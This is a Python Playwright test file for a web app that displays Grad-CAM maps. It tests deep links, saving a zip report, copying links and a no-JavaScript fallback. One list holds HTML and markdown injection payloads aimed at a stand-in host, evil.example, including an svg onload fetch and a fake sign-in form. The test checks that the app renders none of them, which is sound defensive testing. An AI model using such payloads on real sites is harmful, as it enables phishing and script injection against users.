"""Deep links and saving, in a real browser."""

import io
import json
import zipfile
from pathlib import Path
from urllib.parse import urlencode

import pytest
from browsing import ASKED, say, settle


def shown(page, name):
    return page.locator(f"#{name} input").first.input_value()


def test_a_link_opens_what_was_seen(visit):
    page = visit("/?example=test/3_001&target=greg&layer=conv2&method=HiResCAM&colormap=viridis")
    say(page, "really Yuki")
    page.wait_for_selector("button.cell.chosen[data-target=greg][data-column=conv2]")
    assert shown(page, "method") == "HiResCAM" and shown(page, "target") == "Greg" and shown(page, "layer") == "conv2"
    assert page.is_checked("#colormap input[value=viridis]")


def test_the_address_follows(page):
    page.click("#examples button:has-text('Rudo, old red pot')")
    page.wait_for_function("location.search.includes('example=val%2F0_000')")
    page.click("#colormap label:has-text('cividis')")
    page.wait_for_function("location.search.includes('colormap=cividis')")
    settle(page)
    page.reload()
    assert "Rudo" in say(page, "✓ really Rudo") and page.is_checked("#colormap input[value=cividis]")


@pytest.mark.parametrize(
    ("path", "times"),
    [
        ("/", 1),
        ("/?__theme=dark", 1),
        ("/?model=debiased", 2),
        ("/?tab=trust&model=debiased&target=greg", 3),
        ("/?tab=what-if&example=test/3_001", 2),
    ],
)
def test_a_link_asks_once_and_leaves_nothing_pending(window, visit, path, times):
    """First what the link says, if anything, then what the tab in front shows; Trust's table is asked for on its own."""
    asked = []
    window.page.on("request", lambda request: asked.append(request.url) if ASKED in request.url else None)
    page = visit(path)
    count = len(asked)
    page.wait_for_timeout(1000)
    assert count == len(asked) == times
    assert page.locator("#tabs .html-container.pending:visible").count() == 0


def test_a_click_asks_only_for_the_tab_in_front(page):
    asked = []
    page.on("request", lambda request: asked.append(request.url) if ASKED in request.url else None)
    page.click("#examples button:has-text('Rudo, old red pot')")
    say(page, "✓ really Rudo")
    settle(page)
    assert len(asked) == 1


def test_a_broken_link_is_told_and_opens_the_rest(visit):
    page = visit("/?example=test/9_999&layer=conv1")
    page.wait_for_selector("text=The example that the link asks for is not here")
    assert "Baya" in say(page, "really Rudo") and shown(page, "layer") == "conv1"


def test_one_click_saves_everything(page):
    with page.expect_download() as download:
        page.click("button:has-text('Save figure, maps and report')")
    assert download.value.suggested_filename == "embedded-Grad-CAM.zip"
    packed = zipfile.ZipFile(io.BytesIO(Path(download.value.path()).read_bytes()))
    assert json.loads(packed.read("report.json"))["predicted"] == "baya"


MARKUP = [
    "<a href=//evil.example/in>Sign in again</a>",
    "<img src=//evil.example/seen.png>",
    "<form action=//evil.example/in><input name=word><button>Go on</button></form>",
    "<style>body{background:url(//evil.example/b.png)}</style>",
    "<iframe src=//evil.example></iframe><svg onload=fetch('//evil.example')>",
    "[words](//evil.example) ![](//evil.example/seen.png)",
    "&lt;img src=//evil.example/twice.png&gt;",
]
ELEMENTS = "a, img, form, input, style, link, iframe, svg, script, object, embed, base, meta"


HEARD = """if (location.search.includes('evil')) {
    window.heard = new Set();  // a warning goes after ten seconds, which a busy machine may need for the next
    const hear = () => document.querySelectorAll('.toast-text, .toast-body').forEach((e) => window.heard.add(e.textContent.trim()));
    new MutationObserver(hear).observe(document, { childList: true, subtree: true, characterData: true });
}"""


def test_a_link_brings_no_markup(window, visit):
    """Nothing that a link says becomes part of the page, and nothing is asked of elsewhere: `visit` ends the test then."""
    window.page.add_init_script(HEARD)
    names = ["example", "model", "method", "target", "layer", "base", "colormap", "scale", "tab"]
    page = visit("/?" + urlencode([*zip(names, MARKUP * 2), ("other", MARKUP[0])]))
    told = "names => names.every((name) => [...window.heard].some((said) => said.includes(`The ${name} that the link asks for is not here`)))"
    page.wait_for_function(told, arg=names)
    assert "evil" not in page.inner_text("body") and not any(
        "evil" in said for said in page.evaluate("[...window.heard]")
    )
    brought = (
        f"[...document.querySelectorAll('{ELEMENTS}')].map((e) => e.outerHTML).filter((html) => html.includes('evil'))"
    )
    assert page.evaluate(brought) == []


@pytest.mark.parametrize("clipboard", ["undefined", "{ writeText: () => Promise.reject(new DOMException('no')) }"])
def test_a_link_that_cannot_be_copied_is_shown_to_be(visit, clipboard):
    page = visit("/?layer=conv2")
    page.evaluate(f"Object.defineProperty(navigator, 'clipboard', {{ value: {clipboard}, configurable: true }})")
    page.click("button:has-text('Copy link to this view')")
    field = page.locator("dialog input")
    field.wait_for()
    assert field.input_value() == page.url and "layer=conv2" in page.url
    assert page.evaluate("[document.activeElement.selectionStart, document.activeElement.selectionEnd]") == [
        0,
        len(page.url),
    ]
    assert page.get_by_label("here is the link").count() == 1 and page.get_by_text("Error", exact=True).count() == 0
    page.keyboard.press("Escape")
    page.wait_for_selector("dialog", state="detached")
    assert page.evaluate("document.activeElement.innerText") == "Copy link to this view"


def test_a_link_that_can_be_copied_is(visit):
    page = visit("/?layer=conv2")
    page.evaluate(
        "Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (words) => { window.copied = words; } } })"
    )
    page.click("button:has-text('Copy link to this view')")
    page.wait_for_function("window.copied === location.href")
    assert page.locator("dialog").count() == 0


def test_without_scripts_there_is_a_word_and_a_way(browser, app_url):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(app_url)
    assert "needs JavaScript" in page.inner_text("main")
    assert page.get_by_role("link").count() == 2
    for link in page.get_by_role("link").all():
        assert context.request.get(f"{app_url}/{link.get_attribute('href')}").ok
    context.close()


def test_what_a_page_complains_of_while_it_is_left_is_not_listened_to(window, app_url, complaints):
    page = window.open(app_url)
    page.evaluate("addEventListener('beforeunload', () => console.error('broken off'))")
    page.goto(f"{app_url}/?layer=conv2")
    page.evaluate("console.error('this one is')")
    settle(page)
    assert complaints == ["this one is"]
